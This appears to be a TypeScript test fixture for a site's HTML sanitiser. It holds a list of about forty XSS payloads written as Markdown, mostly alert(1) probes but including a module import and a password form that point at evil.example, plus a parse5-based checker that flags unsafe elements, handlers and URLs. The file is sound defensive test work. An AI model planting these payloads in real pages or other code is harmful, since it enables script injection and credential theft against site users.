/**
 * Markdown bodies that try to smuggle script, navigation or foreign markup past the portable HTML
 * sanitiser. Shared by the feed and email tests: whatever leaves the site must neutralise all.
 */
export const xssVectors: { name: string; markdown: string }[] = [
  { name: 'script tag', markdown: 'Hello <script>alert(1)</script> world' },
  {
    name: 'script block',
    markdown: '<script type="module">\nimport("https://evil.example/x.js")\n</script>',
  },
  { name: 'img onerror', markdown: '<img src="x" onerror="alert(1)">' },
  { name: 'img onerror unquoted', markdown: '<img src=x onerror=alert(1)//>' },
  { name: 'a javascript href', markdown: '<a href="javascript:alert(1)">click</a>' },
  { name: 'a javascript href upper case', markdown: '<a href="JaVaScRiPt:alert(1)">click</a>' },
  { name: 'a javascript href with entity tab', markdown: '<a href="jav&#x09;ascript:alert(1)">click</a>' },
  {
    name: 'a javascript href with decimal entities',
    markdown: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  },
  {
    name: 'a javascript href with leading space and newline',
    markdown: '<a href=" \njavascript:alert(1)">click</a>',
  },
  {
    name: 'a javascript href with named colon entity',
    markdown: '<a href="javascript&colon;alert(1)">click</a>',
  },
  { name: 'a vbscript href', markdown: '<a href="vbscript:msgbox(1)">click</a>' },
  {
    name: 'a data text/html href',
    markdown: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  },
  { name: 'markdown javascript link', markdown: '[click](javascript:alert(1))' },
  { name: 'markdown javascript link with entity', markdown: '[click](javascript&#58;alert(1))' },
  { name: 'markdown data link', markdown: '[click](data:text/html,<script>alert(1)</script>)' },
  { name: 'markdown reference javascript link', markdown: '[click][x]\n\n[x]: javascript:alert(1)' },
  { name: 'markdown data image', markdown: '![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)' },
  { name: 'svg onload', markdown: '<svg onload="alert(1)"><circle r="4"/></svg>' },
  { name: 'svg script', markdown: '<svg><script>alert(1)</script></svg>' },
  {
    name: 'svg animate href',
    markdown: '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
  },
  { name: 'iframe', markdown: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'iframe srcdoc', markdown: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  {
    name: 'form with button',
    markdown:
      '<form action="https://evil.example/steal"><input name="pw" type="password"><button formaction="javascript:alert(1)">Go</button></form>',
  },
  { name: 'object data', markdown: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed src', markdown: '<embed src="javascript:alert(1)">' },
  { name: 'style tag', markdown: '<style>body { background: url("javascript:alert(1)") }</style>' },
  { name: 'style attribute', markdown: '<p style="background:url(javascript:alert(1))">styled</p>' },
  { name: 'meta refresh', markdown: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'base href', markdown: '<base href="javascript:alert(1)//">' },
  { name: 'link stylesheet', markdown: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  {
    name: 'math tricks',
    markdown:
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  },
  { name: 'math href', markdown: '<math href="javascript:alert(1)">CLICKME</math>' },
  { name: 'attribute breakout', markdown: '<img src="x" alt="a" onerror="alert(1)" x="">' },
  {
    name: 'attribute quote breakout',
    markdown: '<a href="https://ok.example/" title=\'x" onmouseover="alert(1)\'>hover</a>',
  },
  { name: 'unclosed tag breakout', markdown: '<img src="x"/onerror=alert(1)>' },
  { name: 'details ontoggle', markdown: '<details open ontoggle="alert(1)"><summary>x</summary>y</details>' },
  { name: 'body onload', markdown: '<body onload="alert(1)">text</body>' },
  { name: 'video onerror', markdown: '<video><source onerror="alert(1)"></video>' },
  {
    name: 'srcset javascript',
    markdown: '<img src="https://ok.example/a.png" srcset="javascript:alert(1) 1x">',
  },
  {
    name: 'noscript mutation',
    markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  },
  { name: 'comment breakout', markdown: '<!--><img src=x onerror=alert(1)>-->' },
  { name: 'template', markdown: '<template><script>alert(1)</script></template>' },
];

interface HtmlNode {
  nodeName: string;
  attrs?: { name: string; value: string }[];
  childNodes?: HtmlNode[];
  content?: HtmlNode;
}

/** Elements that must never reach an inbox or a feed reader. */
const FORBIDDEN_ELEMENTS = new Set([
  'script',
  'style',
  'iframe',
  'frame',
  'frameset',
  'form',
  'input',
  'button',
  'select',
  'textarea',
  'object',
  'embed',
  'applet',
  'meta',
  'base',
  'link',
  'svg',
  'math',
  'template',
  'noscript',
  'picture',
  'source',
  'video',
  'audio',
]);

/** Attributes that carry a URL a browser may load or navigate to. */
const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'data',
  'poster',
  'background',
  'cite',
  'xlink:href',
  'srcset',
]);

/**
 * Parses HTML the way a browser does (parse5) and lists everything unsafe or non-portable in it:
 * forbidden elements, event handler / style / srcset attributes, and URLs that are not absolute
 * `http(s)` (links may also be `mailto:`). An empty list means the HTML is fit to leave the site.
 */
export async function findUnsafeHtml(html: string): Promise<string[]> {
  const { parseFragment } = await import('parse5');
  const findings: string[] = [];
  const visit = (node: HtmlNode): void => {
    const name = node.nodeName.toLowerCase();
    if (FORBIDDEN_ELEMENTS.has(name)) findings.push(`element <${name}>`);
    for (const { name: attr, value } of node.attrs ?? []) {
      const lower = attr.toLowerCase();
      if (lower.startsWith('on')) findings.push(`event handler ${lower} on <${name}>`);
      if (lower === 'style' || lower === 'srcset' || lower === 'srcdoc')
        findings.push(`${lower} on <${name}>`);
      if (URL_ATTRIBUTES.has(lower)) {
        const schemes =
          name === 'a' && lower === 'href' ? ['http:', 'https:', 'mailto:'] : ['http:', 'https:'];
        let protocol = 'relative';
        try {
          protocol = new URL(value).protocol;
        } catch {
          // Not absolute: reported below.
        }
        if (!schemes.includes(protocol)) findings.push(`${lower}="${value}" on <${name}>`);
      }
    }
    for (const child of node.childNodes ?? []) visit(child);
    if (node.content) visit(node.content);
  };
  visit(parseFragment(html) as unknown as HtmlNode);
  // Belt and braces on the raw text: every `<` left in sanitised output opens a real tag.
  for (const tag of html.match(/<[a-z][^>]*>/gi) ?? []) {
    const outsideValues = tag.replace(/"[^"]*"|'[^']*'/g, '""');
    if (/^<(script|iframe|form|object|embed|style|meta|base|svg|math)\b/i.test(tag))
      findings.push(`raw ${tag}`);
    if (/\son[a-z]+\s*=/i.test(outsideValues)) findings.push(`raw handler in ${tag}`);
    if (
      /\b(?:href|src|action|formaction|data|poster|background|cite)\s*=\s*["']?\s*(?:javascript|vbscript|data):/i.test(
        tag,
      )
    ) {
      findings.push(`raw scriptable URL in ${tag}`);
    }
  }
  return findings;
}
